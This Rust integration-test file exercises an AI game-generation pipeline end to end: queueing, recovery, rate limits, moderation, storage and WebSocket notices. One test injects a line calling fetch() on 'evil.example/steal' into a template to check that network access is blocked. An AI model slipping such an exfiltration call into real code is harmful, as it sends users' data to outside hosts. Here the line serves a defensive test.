//! The generation pipeline end to end: API -> Postgres -> apalis on Redis -> worker -> game in
//! Postgres + S3, with the failure modes the queue backend is known for.

use std::time::Duration;

use aimini_models::storage::{ObjectKey, Storage};
use aimini_tests::{TestApp, assert_error, spawn_app, spawn_app_with};
use futures::StreamExt as _;
use serde_json::{Value, json};

async fn submit(app: &TestApp, token: &str, body: Value) -> reqwest::Response {
    app.client
        .post(app.url("/api/v1/ai/generate-game"))
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .expect("request")
}

async fn submit_ok(app: &TestApp, token: &str, body: Value) -> String {
    app.submit_generation(token, "/api/v1/ai/generate-game", &body)
        .await
}

/// Deletes every Redis key of this test's deployment (its queues included); returns how many.
async fn lose_queued_jobs(app: &TestApp) -> usize {
    let mut conn = aimini_models::redis_conn::connect(&app.config.redis)
        .await
        .expect("redis");
    let keys: Vec<String> = redis::cmd("KEYS")
        .arg(format!("{}*", app.redis_prefix))
        .query_async(&mut conn)
        .await
        .expect("keys");
    if !keys.is_empty() {
        let _: () = redis::cmd("DEL")
            .arg(&keys)
            .query_async(&mut conn)
            .await
            .expect("del");
    }
    keys.len()
}

async fn games_count(app: &TestApp) -> i64 {
    sqlx::query_scalar("SELECT count(*) FROM games")
        .fetch_one(&app.db)
        .await
        .expect("count")
}

#[tokio::test]
async fn a_prompt_becomes_a_stored_game_and_the_websocket_hears_about_it() {
    let app = spawn_app().await;
    let user = app.register("maker").await;

    // Listen before submitting.
    let ws_url = format!(
        "{}/ws/notifications?access_token={}",
        app.address.replace("http", "ws"),
        user.access_token
    );
    let (mut ws, _) = tokio_tungstenite::connect_async(ws_url)
        .await
        .expect("websocket");
    let hello = ws.next().await.expect("hello").expect("frame");
    assert!(hello.to_text().expect("text").contains("connected"));

    let _worker = app.start_worker().await;
    let resp = submit(
        &app,
        &user.access_token,
        json!({"prompt": "a snake game in space where the snake eats stars"}),
    )
    .await;
    assert_eq!(resp.status(), 202);
    let location = resp.headers()["location"]
        .to_str()
        .expect("ascii")
        .to_owned();
    let id = resp.json::<Value>().await.expect("json")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    assert_eq!(location, format!("/api/v1/ai/generation/{id}"));

    let done = app.wait_generation(&user.access_token, &id).await;
    assert_eq!(done["status"], "completed", "{done}");
    assert_eq!(done["stage"], "done");
    assert_eq!(done["engine"], "local");
    assert_eq!(done["model"], "template-rules");
    let reason = done["route_reason"].as_str().expect("reason");
    assert!(
        reason.contains("OpenAI is not configured") && reason.contains("snake"),
        "{reason}"
    );
    assert_eq!(done["attempts"], 1);
    let game_id = done["result_game_id"].as_str().expect("game id").to_owned();

    let (title, category, creator, data): (String, String, uuid::Uuid, Value) = sqlx::query_as(
        "SELECT title, category, creator_id, game_data FROM games WHERE id = $1::uuid",
    )
    .bind(&game_id)
    .fetch_one(&app.db)
    .await
    .expect("game row");
    assert_eq!(title, "Space Snake");
    assert_eq!(category, "arcade");
    assert_eq!(creator, user.id);
    assert_eq!(data["metadata"]["template"]["id"], "snake");
    assert_eq!(data["metadata"]["runtime"], "aimini-runtime/1");
    // The template's own fuzz-tested code with the filler's parameters: no replay of its own, and
    // the version says which code vouches for it.
    assert!(data.get("smoke_test").is_none(), "{data}");
    assert_eq!(data["verified"]["template"], "snake", "{data}");
    assert_eq!(data["verified"]["fuzz_cases"], 10);

    // The package is in the S3 bucket, byte for byte what game_data describes.
    let storage = Storage::connect(&app.config.storage)
        .await
        .expect("storage");
    // Keys are read from game_data (never built): a generated version sits under its own fresh
    // prefix, written by the same package writer as uploads, with every field of a file entry.
    for (name, content_type) in [
        ("metadata.json", "application/json"),
        ("logic.js", "text/javascript"),
    ] {
        let entry = &data["files"][name];
        let key = entry["key"].as_str().expect("key");
        assert!(key.starts_with(&format!("games/{game_id}/g")), "{key}");
        let obj = storage
            .get(&ObjectKey::new(key).expect("key"))
            .await
            .expect("get")
            .expect("object in S3");
        let sha = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&obj.bytes));
        assert_eq!(entry["sha256"], sha, "{name}");
        assert_eq!(entry["bytes"], obj.bytes.len(), "{name}");
        assert_eq!(entry["content_type"], content_type, "{name}");
        if name == "logic.js" {
            assert_eq!(
                data["verified"]["logic_sha256"], sha,
                "the stored code is the verified code"
            );
        }
    }

    // The WebSocket saw the request move to completed.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        let msg = tokio::time::timeout_at(deadline, ws.next())
            .await
            .expect("notification in time");
        let frame = msg.expect("frame").expect("ok");
        if !frame.is_text() {
            continue; // pings
        }
        let text = frame.into_text().expect("text");
        let n: Value = serde_json::from_str(&text).expect("json");
        if n["type"] == "generation.updated" && n["data"]["status"] == "completed" {
            assert_eq!(n["data"]["id"], id);
            assert_eq!(n["data"]["result_game_id"], game_id);
            break;
        }
    }
}

#[tokio::test]
async fn every_template_can_be_generated_by_game_type() {
    let app = spawn_app_with(|src| src.set("AIMINI_RATE_LIMIT_AI_GENERATION", "100/minute")).await;
    let user = app.register("tester").await;
    let templates: Value = app
        .client
        .get(app.url("/api/v1/ai/templates"))
        .send()
        .await
        .expect("r")
        .json()
        .await
        .expect("json");
    let ids: Vec<String> = templates["templates"]
        .as_array()
        .expect("templates")
        .iter()
        .map(|t| {
            assert!(t["parameters_schema"]["properties"].is_object());
            t["id"].as_str().expect("id").to_owned()
        })
        .collect();
    assert!(ids.len() >= 8, "{ids:?}");
    let _worker = app.start_worker().await;
    let mut requests = Vec::new();
    for id in &ids {
        requests.push((
            id.clone(),
            submit_ok(
                &app,
                &user.access_token,
                json!({"prompt": "make it fun and colourful", "game_type": id}),
            )
            .await,
        ));
    }
    for (template, req) in requests {
        let done = app.wait_generation(&user.access_token, &req).await;
        assert_eq!(done["status"], "completed", "{template}: {done}");
        let used: String = sqlx::query_scalar(
            "SELECT game_data #>> '{metadata,template,id}' FROM games WHERE id = $1::uuid",
        )
        .bind(done["result_game_id"].as_str().expect("game"))
        .fetch_one(&app.db)
        .await
        .expect("game");
        assert_eq!(used, template);
    }
}

#[tokio::test]
async fn bad_requests_are_refused_with_field_errors() {
    let app = spawn_app().await;
    let user = app.register("picky").await;
    let t = &user.access_token;
    for (body, field) in [
        (json!({"prompt": "hi"}), "prompt"),
        (json!({"prompt": "x".repeat(2001)}), "prompt"),
        (
            json!({"prompt": "a kart racer", "game_type": "kart-racing"}),
            "game_type",
        ),
        (
            json!({"prompt": "snake", "difficulty": "impossible"}),
            "difficulty",
        ),
        (json!({"prompt": "snake", "engine": "openai"}), "engine"),
        (
            json!({"prompt": "snake", "game_type": "snake", "parameters": {"gridSize": 100000}}),
            "parameters",
        ),
        (
            json!({"prompt": "snake", "parameters": [1, 2]}),
            "parameters",
        ),
    ] {
        let err = assert_error(
            submit(&app, t, body.clone()).await,
            422,
            "validation_failed",
        )
        .await;
        assert_eq!(
            err["error"]["details"]["fields"][0]["field"], field,
            "{body}"
        );
    }
    let err = assert_error(
        submit(
            &app,
            t,
            json!({"prompt": "snake", "game_type": "snake", "parameters": {"gridSize": 100000}}),
        )
        .await,
        422,
        "validation_failed",
    )
    .await;
    assert!(
        err.to_string().contains("/gridSize"),
        "the problem names its path: {err}"
    );
    assert_error(
        submit(&app, t, json!({"prompt": "snake", "engine": "quantum"})).await,
        422,
        "invalid_body",
    )
    .await;
    let anonymous = app
        .post_json("/api/v1/ai/generate-game", &json!({"prompt": "snake game"}))
        .await;
    assert_error(anonymous, 401, "unauthorized").await;
    assert_eq!(games_count(&app).await, 0);
}

#[tokio::test]
async fn idempotency_keys_return_the_same_request_or_conflict() {
    let app = spawn_app().await;
    let user = app.register("careful").await;
    let post = |body: Value, key: &str| {
        app.client
            .post(app.url("/api/v1/ai/generate-game"))
            .bearer_auth(&user.access_token)
            .header("idempotency-key", key)
            .json(&body)
            .send()
    };
    let a: Value = post(json!({"prompt": "a quiz about cats"}), "k-1")
        .await
        .expect("r")
        .json()
        .await
        .expect("json");
    let b: Value = post(json!({"prompt": "a quiz about cats"}), "k-1")
        .await
        .expect("r")
        .json()
        .await
        .expect("json");
    assert_eq!(a["id"], b["id"]);
    let conflict = post(json!({"prompt": "a quiz about dogs"}), "k-1")
        .await
        .expect("r");
    assert_error(conflict, 409, "idempotency_key_reused").await;
    let other: Value = post(json!({"prompt": "a quiz about cats"}), "k-2")
        .await
        .expect("r")
        .json()
        .await
        .expect("json");
    assert_ne!(other["id"], a["id"]);
    let rows: i64 = sqlx::query_scalar("SELECT count(*) FROM ai_generation_requests")
        .fetch_one(&app.db)
        .await
        .expect("n");
    assert_eq!(rows, 2);
}

#[tokio::test]
async fn duplicate_deliveries_make_one_game() {
    let app = spawn_app().await;
    let user = app.register("twice").await;
    let id = submit_ok(
        &app,
        &user.access_token,
        json!({"prompt": "breakout with neon bricks"}),
    )
    .await;
    // Deliver the same request three more times before any worker runs.
    let queues = aimini_models::queue::Queues::new(
        aimini_models::redis_conn::connect(&app.config.redis)
            .await
            .expect("redis"),
        &app.redis_prefix,
    );
    let uuid: uuid::Uuid = id.parse().expect("uuid");
    for _ in 0..3 {
        queues
            .enqueue_generation(&[uuid], false)
            .await
            .expect("push");
    }
    let _w1 = app.start_worker().await;
    let _w2 = app.start_worker().await;
    let done = app.wait_generation(&user.access_token, &id).await;
    assert_eq!(done["status"], "completed");
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        games_count(&app).await,
        1,
        "exactly one game for one request"
    );
    assert_eq!(done["attempts"], 1, "the extra deliveries never claimed it");
}

#[tokio::test]
async fn requests_lost_by_redis_are_recovered_by_the_reconciler() {
    let app = spawn_app().await;
    let user = app.register("unlucky").await;
    let mut ids = Vec::new();
    for i in 0..5 {
        ids.push(
            submit_ok(
                &app,
                &user.access_token,
                json!({"prompt": format!("memory game number {i}")}),
            )
            .await,
        );
    }
    // Lose every queued job (as a Redis flush would), without touching other tests' keys.
    assert!(lose_queued_jobs(&app).await > 0);

    let _worker = app.start_worker().await;
    for id in &ids {
        let done = app.wait_generation(&user.access_token, id).await;
        assert_eq!(done["status"], "completed", "{done}");
    }
    assert_eq!(games_count(&app).await, 5);
}

#[tokio::test]
async fn a_request_whose_worker_died_after_claiming_completes_once() {
    let app = spawn_app().await;
    let user = app.register("orphan").await;
    let id = submit_ok(&app, &user.access_token, json!({"prompt": "tic tac toe"})).await;
    // What a worker killed right after its claim leaves behind: processing, a lease about to lapse,
    // and no queue entry.
    sqlx::query(
        "UPDATE ai_generation_requests SET status = 'processing', stage = 'generating', attempts = 1,
         lease_until = now() + interval '1 second' WHERE id = $1::uuid",
    )
    .bind(&id)
    .execute(&app.db)
    .await
    .expect("simulate claim");
    lose_queued_jobs(&app).await;

    let _worker = app.start_worker().await;
    let done = app.wait_generation(&user.access_token, &id).await;
    assert_eq!(done["status"], "completed", "{done}");
    assert_eq!(done["attempts"], 2, "the lapsed attempt counts");
    assert_eq!(games_count(&app).await, 1);
}

#[tokio::test]
async fn exhausted_attempts_fail_with_a_readable_message() {
    let app = spawn_app().await;
    let user = app.register("doomed").await;
    let id = submit_ok(
        &app,
        &user.access_token,
        json!({"prompt": "sliding puzzle"}),
    )
    .await;
    sqlx::query(
        "UPDATE ai_generation_requests SET status = 'processing', attempts = max_attempts,
         lease_until = now() - interval '1 second' WHERE id = $1::uuid",
    )
    .bind(&id)
    .execute(&app.db)
    .await
    .expect("simulate");
    let _worker = app.start_worker().await;
    let done = app.wait_generation(&user.access_token, &id).await;
    assert_eq!(done["status"], "failed");
    assert_eq!(done["error_code"], "attempts_exhausted");
    assert!(
        done["error_message"]
            .as_str()
            .is_some_and(|m| m.contains("3 attempts")),
        "{done}"
    );
}

#[tokio::test]
async fn admission_control_and_rate_limits_push_back() {
    let app = spawn_app_with(|src| {
        src.set("AIMINI_GENERATION_MAX_DUE_JOBS", "2");
        src.set("AIMINI_RATE_LIMIT_AI_GENERATION", "3/minute");
    })
    .await;
    let user = app.register("eager").await;
    submit_ok(&app, &user.access_token, json!({"prompt": "snake one"})).await;
    submit_ok(&app, &user.access_token, json!({"prompt": "snake two"})).await;
    // No worker runs: two due jobs fill the (tiny) queue. The API samples the depth every 100 ms,
    // so give the sampler a few ticks to see them.
    tokio::time::sleep(Duration::from_millis(400)).await;
    let full = submit(&app, &user.access_token, json!({"prompt": "snake three"})).await;
    assert_error(full, 503, "queue_full").await;
    let limited = submit(&app, &user.access_token, json!({"prompt": "snake four"})).await;
    assert!(limited.headers().contains_key("retry-after"));
    assert_error(limited, 429, "rate_limited").await;

    let admin = app.user_with_role("ops", "admin").await;
    let queues: Value = app
        .get_auth("/api/v1/admin/queues", &admin.access_token)
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(queues["queues"][0]["queue"], "generation.v1");
    assert_eq!(queues["queues"][0]["redis"]["due"], 2);
    assert_eq!(queues["queues"][0]["pending"], 2);
    assert!(
        queues["queues"][0]["oldest_pending_secs"]
            .as_f64()
            .is_some()
    );
    assert_eq!(queues["max_due_jobs"], 2);
    assert_error(
        app.get_auth("/api/v1/admin/queues", &user.access_token)
            .await,
        403,
        "forbidden",
    )
    .await;
}

#[tokio::test]
async fn requests_are_private_listed_and_regenerated() {
    let app = spawn_app().await;
    let owner = app.register("owner").await;
    let other = app.register("snoop").await;
    let admin = app.user_with_role("boss", "admin").await;
    let _worker = app.start_worker().await;
    let first = submit_ok(
        &app,
        &owner.access_token,
        json!({"prompt": "a quiz about planets"}),
    )
    .await;
    let done = app.wait_generation(&owner.access_token, &first).await;
    assert_eq!(done["status"], "completed");

    assert_error(
        app.get_auth(
            &format!("/api/v1/ai/generation/{first}"),
            &other.access_token,
        )
        .await,
        404,
        "not_found",
    )
    .await;
    assert_eq!(
        app.get_auth(
            &format!("/api/v1/ai/generation/{first}"),
            &admin.access_token
        )
        .await
        .status(),
        200
    );

    let regen = app
        .client
        .post(app.url("/api/v1/ai/regenerate"))
        .bearer_auth(&owner.access_token)
        .json(
            &json!({"game_id": done["result_game_id"], "modifications": "make it about the ocean"}),
        )
        .send()
        .await
        .expect("regenerate");
    assert_eq!(regen.status(), 202);
    let regen: Value = regen.json().await.expect("json");
    assert_eq!(regen["parent_request_id"], first);
    assert_eq!(
        regen["game_type"], "quiz",
        "same kind of game as the parent"
    );
    let second = app
        .wait_generation(&owner.access_token, regen["id"].as_str().expect("id"))
        .await;
    assert_eq!(second["status"], "completed");
    // A regeneration is a new version of the same game, live at once.
    assert_eq!(second["result_game_id"], done["result_game_id"]);
    let (palette, version): (String, i32) = sqlx::query_as(
        "SELECT game_data #>> '{metadata,template,params,theme}', version FROM games WHERE id = $1::uuid",
    )
    .bind(second["result_game_id"].as_str().expect("game"))
    .fetch_one(&app.db)
    .await
    .expect("theme");
    assert_eq!(palette, "ocean");
    assert_eq!(version, 2);
    assert_eq!(games_count(&app).await, 1);

    let not_mine = app
        .client
        .post(app.url("/api/v1/ai/regenerate"))
        .bearer_auth(&other.access_token)
        .json(&json!({"generation_id": first, "modifications": "steal it"}))
        .send()
        .await
        .expect("regenerate");
    assert_error(not_mine, 404, "not_found").await;

    let page: Value = app
        .get_auth("/api/v1/ai/generations?limit=1", &owner.access_token)
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(page["items"].as_array().map(Vec::len), Some(1));
    assert_eq!(page["items"][0]["id"], regen["id"], "newest first");
    let cursor = page["next_cursor"].as_str().expect("more");
    let page2: Value = app
        .get_auth(
            &format!("/api/v1/ai/generations?limit=1&cursor={cursor}"),
            &owner.access_token,
        )
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(page2["items"][0]["id"], first);
    assert!(page2["next_cursor"].is_null());
}

#[tokio::test]
async fn game_code_that_reaches_for_blocked_apis_is_rejected_with_its_location() {
    // A copy of the templates where one game phones home.
    let dir =
        std::env::temp_dir().join(format!("aimini-prompts-{}", uuid::Uuid::new_v4().simple()));
    let src = std::path::Path::new(aimini_tests::prompts_dir().as_str()).to_owned();
    copy_dir(&src, &dir);
    let logic = dir.join("templates/snake/logic.js");
    let original = std::fs::read_to_string(&logic).expect("logic");
    std::fs::write(
        &logic,
        format!("{original}\nfetch('https://evil.example/steal?c=' + 1);\n"),
    )
    .expect("write");
    let line = original.lines().count() + 2;
    let prompts = dir.display().to_string();
    let app = spawn_app_with(move |src| src.set("AIMINI_PROMPTS_DIR", prompts)).await;
    let user = app.register("victim").await;
    let _worker = app.start_worker().await;
    let id = submit_ok(
        &app,
        &user.access_token,
        json!({"prompt": "snake", "game_type": "snake"}),
    )
    .await;
    let done = app.wait_generation(&user.access_token, &id).await;
    assert_eq!(done["status"], "failed", "{done}");
    assert_eq!(done["error_code"], "blocked_api");
    let msg = done["error_message"].as_str().expect("message");
    assert!(
        msg.contains(&format!(
            "logic.js:{line}:1: `fetch` is not allowed (network access)"
        )),
        "{msg}"
    );
    assert_eq!(games_count(&app).await, 0, "nothing was published");
    let _ = std::fs::remove_dir_all(dir);
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for entry in std::fs::read_dir(from).expect("read dir") {
        let entry = entry.expect("entry");
        let target = to.join(entry.file_name());
        if entry.file_type().expect("type").is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).expect("copy");
        }
    }
}

#[tokio::test]
async fn every_generated_game_is_reviewed_and_abusive_ones_stay_private() {
    let app = spawn_app().await;
    let user = app.register("reviewer").await;
    let _worker = app.start_worker().await;
    let clean = submit_ok(
        &app,
        &user.access_token,
        json!({"prompt": "a friendly quiz about planets"}),
    )
    .await;
    // Profanity alone is no reason to refuse a request (the content policy's request classifier
    // refuses insults aimed at people), but the game's texts keep it, and the review keeps the game
    // private.
    let abusive = submit_ok(
        &app,
        &user.access_token,
        json!({"prompt": "a quiz game called \"Shit Heads\" for my friends"}),
    )
    .await;
    for (id, expected) in [(&clean, "approved"), (&abusive, "rejected")] {
        let done = app.wait_generation(&user.access_token, id).await;
        assert_eq!(done["status"], "completed");
        let verdict = app
            .poll_generation_until(&user.access_token, id, Duration::from_secs(15), |b| {
                b["moderation"] != "pending" && !b["moderation"].is_null()
            })
            .await;
        assert_eq!(verdict["moderation"], expected, "{verdict}");
        let (status, public, details): (String, bool, Option<String>) = sqlx::query_as(
            "SELECT g.status, g.is_public, m.details FROM games g JOIN content_moderation m ON m.content_id = g.id
             WHERE g.id = $1::uuid",
        )
        .bind(verdict["result_game_id"].as_str().expect("game"))
        .fetch_one(&app.db)
        .await
        .expect("rows");
        assert!(!public);
        if expected == "rejected" {
            assert_eq!(status, "moderated");
            let details = details.expect("details");
            assert!(
                details.contains("title") && details.contains("prompt"),
                "{details}"
            );
        } else {
            assert_eq!(status, "active");
        }
    }
}

#[tokio::test]
async fn partial_nested_overrides_are_merged_the_same_way_by_the_api_and_the_worker() {
    let app = spawn_app().await;
    let user = app.register("painter").await;
    let _worker = app.start_worker().await;
    let id = submit_ok(
        &app,
        &user.access_token,
        json!({"prompt": "snake", "game_type": "snake", "parameters": {"palette": {"primary": "#ff0000"}}}),
    )
    .await;
    let done = app.wait_generation(&user.access_token, &id).await;
    assert_eq!(done["status"], "completed", "{done}");
    let data: Value = sqlx::query_scalar("SELECT game_data FROM games WHERE id = $1::uuid")
        .bind(done["result_game_id"].as_str().expect("game"))
        .fetch_one(&app.db)
        .await
        .expect("game data");
    let palette = &data["metadata"]["template"]["params"]["palette"];
    assert_eq!(palette["primary"], "#ff0000");
    // Parameters a client chose are played like new code, even on verified template code.
    assert_eq!(data["smoke_test"]["frames"], 180, "{data}");
    assert!(data.get("verified").is_none(), "{data}");
    assert!(
        palette["background"].as_str().is_some(),
        "the other colours are kept: {palette}"
    );
}

#[tokio::test]
async fn a_logged_out_token_cannot_open_a_websocket() {
    let app = spawn_app().await;
    let user = app.register("leaver").await;
    let resp = app
        .client
        .post(app.url("/api/v1/auth/logout"))
        .bearer_auth(&user.access_token)
        .json(&json!({"refresh_token": user.refresh_token}))
        .send()
        .await
        .expect("logout");
    assert_eq!(resp.status(), 204);
    let ws_url = format!(
        "{}/ws/notifications?access_token={}",
        app.address.replace("http", "ws"),
        user.access_token
    );
    let err = tokio_tungstenite::connect_async(ws_url)
        .await
        .expect_err("refused");
    assert!(err.to_string().contains("401"), "{err}");
}

/// A genre no template makes yet is served by the nearest playable one, and the status says so
/// in its own field; a genre a template makes is not approximate.
#[tokio::test]
async fn a_genre_no_template_makes_is_served_approximately_and_says_so() {
    let app = spawn_app().await;
    let user = app.register("genre_fan").await;
    let _worker = app.start_worker().await;
    let done = app
        .generate_and_wait(
            &user.access_token,
            &json!({"prompt": "a chess game with cats"}),
        )
        .await;
    assert_eq!(done["status"], "completed", "{done}");
    let note = done["approximate"].as_str().expect("approximate");
    assert!(
        note.starts_with("no chess template yet: made connect four"),
        "{note}"
    );
    let game_id = done["result_game_id"].as_str().expect("game");
    let game = app
        .get_auth(&format!("/api/v1/games/{game_id}"), &user.access_token)
        .await
        .json::<Value>()
        .await
        .expect("game");
    assert!(
        !game["title"]
            .as_str()
            .unwrap_or_default()
            .to_lowercase()
            .contains("chess"),
        "{game}"
    );

    // A genre a template makes is made as asked.
    for prompt in ["a snake game in space", "a tetris game with falling cats"] {
        let exact = app
            .generate_and_wait(&user.access_token, &json!({"prompt": prompt}))
            .await;
        assert_eq!(exact["status"], "completed", "{exact}");
        assert!(exact["approximate"].is_null(), "{exact}");
    }
}
